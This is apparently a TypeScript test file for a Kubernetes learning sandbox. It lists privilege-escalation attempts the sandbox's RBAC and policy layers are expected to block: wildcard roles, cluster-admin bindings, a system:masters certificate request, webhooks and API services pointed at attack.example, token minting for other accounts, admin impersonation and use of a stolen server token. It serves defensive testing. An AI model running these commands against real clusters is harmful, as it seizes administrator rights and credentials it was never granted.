/** Attacks on rights: to have more of them, or somebody else's. */
import type { Attack, AttackClass } from './attack.ts';
import { policy, rbac, serverRbac } from './layers.ts';

const RBAC = '/apis/rbac.authorization.k8s.io/v1';

/** No learner may any of it anywhere, so there is no control; without RBAC each of them works. */
const grants: readonly Attack[] = [
  {
    name: 'make a role that may everything',
    attempt: "kubectl create role everything --verb='*' --resource='*'",
    proof: { leaves: `${RBAC}/namespaces/$NAMESPACE/roles/everything` },
    layers: [rbac],
  },
  {
    name: 'bind themselves to cluster-admin in their namespace',
    attempt:
      'kubectl create rolebinding all --clusterrole=cluster-admin --serviceaccount=podium-sandboxes:$OWN_SHELL_POD',
    proof: { leaves: `${RBAC}/namespaces/$NAMESPACE/rolebindings/all` },
    layers: [rbac],
  },
  {
    name: 'bind themselves to cluster-admin everywhere',
    attempt:
      'kubectl create clusterrolebinding all-$NONCE --clusterrole=cluster-admin --serviceaccount=podium-sandboxes:$OWN_SHELL_POD',
    proof: { leaves: `${RBAC}/clusterrolebindings/all-$NONCE` },
    layers: [rbac],
  },
  {
    name: 'make a namespace without walls',
    attempt: 'kubectl create namespace wide-$NONCE',
    proof: { leaves: '/api/v1/namespaces/wide-$NONCE' },
    layers: [rbac],
  },
  {
    name: 'relax the rules of their namespace',
    attempt: 'kubectl label namespace $NAMESPACE attack.example/mark=$NONCE',
    proof: {
      changes: '/api/v1/namespaces/$NAMESPACE',
      isChanged: (object, { NONCE }) => JSON.stringify(object).includes(`"attack.example/mark":"${NONCE}"`),
    },
    layers: [rbac],
    undo: ({ admin, places }) =>
      admin.patch(`/api/v1/namespaces/${places['NAMESPACE']}`, {
        metadata: { labels: { 'attack.example/mark': null } },
      }),
  },
  {
    name: 'change the node',
    attempt: 'kubectl label node $NODE_NAME attack.example/mark=$NONCE',
    proof: {
      changes: '/api/v1/nodes/$NODE_NAME',
      isChanged: (object, { NONCE }) => JSON.stringify(object).includes(`"attack.example/mark":"${NONCE}"`),
    },
    layers: [rbac],
    undo: ({ admin, places }) =>
      admin.patch(`/api/v1/nodes/${places['NODE_NAME']}`, { metadata: { labels: { 'attack.example/mark': null } } }),
  },
  {
    name: 'have a certificate signed for system:masters',
    attempt: `openssl req -new -newkey rsa:2048 -nodes -keyout /tmp/key -subj /O=system:masters/CN=$NONCE -out /tmp/csr 2>/dev/null
kubectl create -f - <<REQUEST
apiVersion: certificates.k8s.io/v1
kind: CertificateSigningRequest
metadata: { name: csr-$NONCE }
spec: { request: $(base64 -w0 /tmp/csr), signerName: $SIGNER, usages: [client auth] }
REQUEST`,
    // That of system:masters is refused even to an administrator, by a plugin of the API server.
    with: { SIGNER: 'example.com/client' },
    proof: { leaves: '/apis/certificates.k8s.io/v1/certificatesigningrequests/csr-$NONCE' },
    layers: [rbac],
  },
];

/** What would see or answer the requests of everybody; made so that it meets none, should it get through. */
const hooks: readonly Attack[] = [
  {
    name: 'see everybody’s requests by a webhook',
    attempt: `kubectl create -f - <<HOOK
apiVersion: admissionregistration.k8s.io/v1
kind: ValidatingWebhookConfiguration
metadata: { name: hook-$NONCE }
webhooks:
- name: all.attack.example
  clientConfig: { url: "https://attack.example/" }
  failurePolicy: Ignore
  sideEffects: None
  admissionReviewVersions: [v1]
  rules: [{ apiGroups: [attack.example], apiVersions: [v1], operations: [CREATE], resources: [nothings] }]
HOOK`,
    proof: { leaves: '/apis/admissionregistration.k8s.io/v1/validatingwebhookconfigurations/hook-$NONCE' },
    layers: [rbac],
  },
  {
    name: 'add a kind to the cluster',
    attempt: `kubectl create -f - <<KIND
apiVersion: apiextensions.k8s.io/v1
kind: CustomResourceDefinition
metadata: { name: marks.k$NONCE.example }
spec:
  group: k$NONCE.example
  scope: Namespaced
  names: { plural: marks, kind: Mark }
  versions: [{ name: v1, served: true, storage: true, schema: { openAPIV3Schema: { type: object } } }]
KIND`,
    proof: { leaves: '/apis/apiextensions.k8s.io/v1/customresourcedefinitions/marks.k$NONCE.example' },
    layers: [rbac],
  },
  {
    name: 'answer for a part of the API',
    attempt: `kubectl create -f - <<SERVICE
apiVersion: apiregistration.k8s.io/v1
kind: APIService
metadata: { name: v1.a$NONCE.example }
spec:
  group: a$NONCE.example
  version: v1
  groupPriorityMinimum: 1
  versionPriority: 1
  insecureSkipTLSVerify: true
  service: { namespace: $NAMESPACE, name: nobody }
SERVICE`,
    proof: { leaves: '/apis/apiregistration.k8s.io/v1/apiservices/v1.a$NONCE.example' },
    layers: [rbac],
  },
];

const identities: readonly Attack[] = [
  {
    name: 'get a token of another account',
    attempt: 'kubectl -n $WHERE create token $ACCOUNT',
    with: { WHERE: '$NAMESPACE', ACCOUNT: 'default' },
    proof: { prints: /^ey[\w-]+\.[\w-]+\./m },
    layers: [rbac],
  },
  {
    name: 'get a token of the server',
    attempt: 'kubectl -n $WHERE create token $ACCOUNT',
    with: { WHERE: 'podium', ACCOUNT: 'podium-server' },
    proof: { prints: /^ey[\w-]+\.[\w-]+\./m },
    layers: [rbac],
  },
  {
    name: 'act as an administrator',
    attempt: 'kubectl get $WHAT $AS -o name',
    with: { WHAT: 'secrets,configmaps --namespace=kube-system', AS: '--as=system:admin --as-group=system:masters' },
    control: { WHAT: 'configmaps', AS: '' },
    proof: { prints: /^configmap\/(?:coredns|board)/m },
    layers: [rbac],
  },
  {
    name: 'read what the cluster itself keeps',
    attempt: 'kubectl -n $TARGET get configmaps -o name',
    with: { TARGET: 'kube-system' },
    control: { TARGET: '$NAMESPACE' },
    proof: { prints: /^configmap\/(?:coredns|board)/m },
    layers: [rbac],
  },
  {
    name: 'go to the kubelet through the API server',
    attempt: 'kubectl get --raw /api/v1/$TARGET | head -c 300',
    with: { TARGET: 'nodes/$NODE_NAME/proxy/pods' },
    control: { TARGET: 'namespaces/$NAMESPACE/pods' },
    proof: { prints: /"kind": ?"PodList"/ },
    layers: [rbac],
  },
];

/** The server's own token, should it ever come into a learner's hands. */
const asServer =
  'kubectl --kubeconfig=/dev/null --server=https://$KUBERNETES --certificate-authority=/var/run/podium/cluster/ca.crt --token=$SERVER_TOKEN';
const withStolenToken: readonly Attack[] = [
  {
    name: 'read kube-system with the server’s token',
    attempt: `${asServer} -n $TARGET get $WHAT -o name`,
    with: { TARGET: 'kube-system', WHAT: 'configmaps' },
    control: { TARGET: 'podium-sandboxes', WHAT: 'pods' },
    proof: { prints: /^(?:configmap\/coredns|pod\/shell-)/m },
    layers: [serverRbac],
  },
  {
    name: 'adopt a namespace with the server’s token',
    attempt: `${asServer} label namespace $TARGET podium.dev/sandbox=$VALUE --dry-run=server -o name`,
    with: { TARGET: 'default', VALUE: 'stolen' },
    control: { TARGET: '$NAMESPACE', VALUE: '$OWN_PLACE' },
    proof: { prints: /^namespace\/(?:default|learner-)/m },
    layers: [policy('podium-server-account')],
  },
  {
    name: 'let the server’s token into kube-system',
    attempt: `${asServer} -n $TARGET create rolebinding in --clusterrole=podium-keeper --serviceaccount=podium:podium-server --dry-run=server -o name`,
    with: { TARGET: 'kube-system' },
    control: { TARGET: '$NAMESPACE' },
    proof: { prints: /^rolebinding\S*\/in/m },
    layers: [policy('podium-server-account')],
  },
];

export const rights: AttackClass = {
  name: 'rights',
  attacks: [...grants, ...hooks, ...identities, ...withStolenToken],
};
